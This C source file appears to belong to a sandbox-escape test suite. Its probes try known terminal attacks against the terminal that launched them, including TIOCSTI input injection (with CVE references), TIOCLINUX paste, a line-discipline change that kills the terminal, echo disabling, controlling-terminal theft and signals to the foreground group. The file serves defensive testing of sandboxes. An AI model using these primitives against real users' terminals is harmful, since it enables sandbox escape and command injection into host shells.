/* Terminal attacks on the terminal the probe was started from. The verdict
 * is the caller's: escape_suite.sh compares that terminal before and after
 * and traps the signals its foreground group gets; the probe's own line only
 * says what the calls returned. `ttystate` prints that terminal's state. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>
#include "probe.h"

#define HI32 0xffffffff00000000UL

/* Runs one ioctl on fds 0-2 and /dev/tty; prints each result. The exit is
 * P_BLOCKED when every call failed: the runner still judges by the caller's
 * terminal, since a call that "worked" on the sandbox's own pty is fine. */
static int on_ttys(const char *what, unsigned long req, void *arg)
{
	int worked = 0, fds[4] = {0, 1, 2, -1};
	fds[3] = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	printf("%s:", what);
	for (int i = 0; i < 4; i++) {
		if (fds[i] < 0) { printf(" tty=%s", ename(errno)); continue; }
		long r = syscall(SYS_ioctl, fds[i], req, arg);
		printf(" %s=%s", i < 3 ? (const char *[]){"0", "1", "2"}[i] : "tty",
		       r < 0 ? ename(errno) : "ok");
		worked |= r >= 0;
	}
	putchar('\n');
	if (fds[3] >= 0) close(fds[3]);
	return worked ? P_ESCAPED : P_BLOCKED;
}

static int tiocsti(const struct ctx *c) { char ch = 'X'; return on_ttys("TIOCSTI", TIOCSTI, &ch); }
static int tiocsti_hi(const struct ctx *c) { char ch = 'X'; return on_ttys("TIOCSTI|hi", HI32 | TIOCSTI, &ch); }
/* TIOCLINUX 3: paste the console selection as input (a VT only). */
static int tioclinux(const struct ctx *c) { char sub = 3; return on_ttys("TIOCLINUX", TIOCLINUX, &sub); }
static int tioclinux_hi(const struct ctx *c) { char sub = 3; return on_ttys("TIOCLINUX|hi", HI32 | TIOCLINUX, &sub); }
/* N_NULL: `stty line 27` left the caller's terminal dead. */
static int tiocsetd(const struct ctx *c) { int ld = 27; return on_ttys("TIOCSETD", TIOCSETD, &ld); }
static int tiocswinsz(const struct ctx *c)
{
	struct winsize ws = {.ws_row = 11, .ws_col = 22};
	return on_ttys("TIOCSWINSZ", TIOCSWINSZ, &ws);
}
static int tcsets(const struct ctx *c)
{
	struct termios t;
	if (tcgetattr(0, &t) < 0 && tcgetattr(1, &t) < 0)
		memset(&t, 0, sizeof(t));
	t.c_lflag &= ~(tcflag_t)(ECHO | ICANON | ISIG);
	return on_ttys("TCSETS", TCSETS, &t);
}
/* Force-steal (arg 1) the terminal as the controlling tty of a new session
 * (a child: only a session leader may take one). */
static int tiocsctty(const struct ctx *c)
{
	int st;
	fflush(stdout);
	pid_t p = fork();
	if (p == 0) {
		setsid();
		_exit(on_ttys("TIOCSCTTY", TIOCSCTTY, (void *)1L));
	}
	if (p < 0 || waitpid(p, &st, 0) < 0) return broken("fork: %s", ename(errno));
	return WIFEXITED(st) ? WEXITSTATUS(st) : P_BROKEN;
}
/* Signal the terminal's foreground group (the caller's shell). */
static int sig_pgrp(const struct ctx *c)
{
	int worked = 0;
	for (int fd = 0; fd <= 2; fd++) {
		pid_t pg = tcgetpgrp(fd);
		int r = pg > 0 ? kill(-pg, SIGWINCH) : -1;
		printf("fd%d pgrp=%d kill=%s ", fd, (int)pg, r < 0 ? ename(errno) : "ok");
		worked |= r == 0 && pg != getpgrp();
	}
	putchar('\n');
	return worked ? P_ESCAPED : P_BLOCKED;
}

/* Not an attack: fd 0's terminal as the caller sees it. Pending input is
 * read in non-canonical mode (canonical FIONREAD only counts whole lines,
 * and TIOCSTI pushes one byte); the settings are restored before printing
 * the original ones. */
static int ttystate(const struct ctx *c)
{
	struct winsize ws = {0};
	struct termios t = {0}, raw;
	int ld = -1;
	pid_t sid = -1;
	long pending = 0;
	char buf[256];
	ioctl(0, TIOCGETD, &ld);
	ioctl(0, TIOCGWINSZ, &ws);
	/* Whose controlling terminal it is: a stolen terminal loses its
	 * session (ENOTTY once the thief is gone). */
	if (ioctl(0, TIOCGSID, &sid) < 0)
		sid = -errno;
	if (tcgetattr(0, &t) == 0) {
		raw = t;
		raw.c_lflag &= ~(tcflag_t)ICANON;
		raw.c_cc[VMIN] = 0;
		raw.c_cc[VTIME] = 0;
		if (tcsetattr(0, TCSANOW, &raw) == 0) {
			long n;
			while ((n = read(0, buf, sizeof(buf))) > 0)
				pending += n;
			tcsetattr(0, TCSANOW, &t);
		}
	}
	printf("ldisc=%d size=%dx%d lflag=%#lx pending=%ld sid=%d\n", ld, ws.ws_row, ws.ws_col,
	       (unsigned long)t.c_lflag, pending, (int)sid);
	return 0;
}

static const struct probe probes[] = {
	{"tty_tiocsti", "terminal", C_HOST, "TIOCSTI pushes a byte into the caller's input (CVE-2017-5226)", tiocsti},
	{"tty_tiocsti_hibits", "terminal", C_HOST, "TIOCSTI with the upper 32 bits set (CVE-2019-10063)", tiocsti_hi},
	{"tty_tioclinux", "terminal", C_NONE, "TIOCLINUX paste (CVE-2023-28100); only a virtual console has it, the test terminal is a pty", tioclinux},
	{"tty_tioclinux_hibits", "terminal", C_NONE, "TIOCLINUX with high bits; only a virtual console has it", tioclinux_hi},
	{"tty_line_discipline", "terminal", C_HOST, "TIOCSETD to N_NULL kills the caller's terminal", tiocsetd},
	{"tty_window_size", "terminal", C_HOST, "TIOCSWINSZ resizes the caller's terminal (SIGWINCH to its group)", tiocswinsz},
	{"tty_termios", "terminal", C_HOST, "TCSETS turns off echo and signals on the caller's terminal", tcsets},
	{"tty_tiocsctty", "terminal", C_ROOT, "TIOCSCTTY force-steals the caller's terminal (needs CAP_SYS_ADMIN)", tiocsctty},
	{"tty_signal_pgrp", "terminal", C_HOST, "SIGWINCH to the terminal's foreground process group", sig_pgrp},
};
FAMILY(fam_term, probes);

/* Exposed separately: the runner calls it on the bare host. */
static const struct probe helper[] = {{"ttystate", "helper", C_NONE, "terminal state", ttystate}};
const struct family fam_term_helper = {helper, 1};
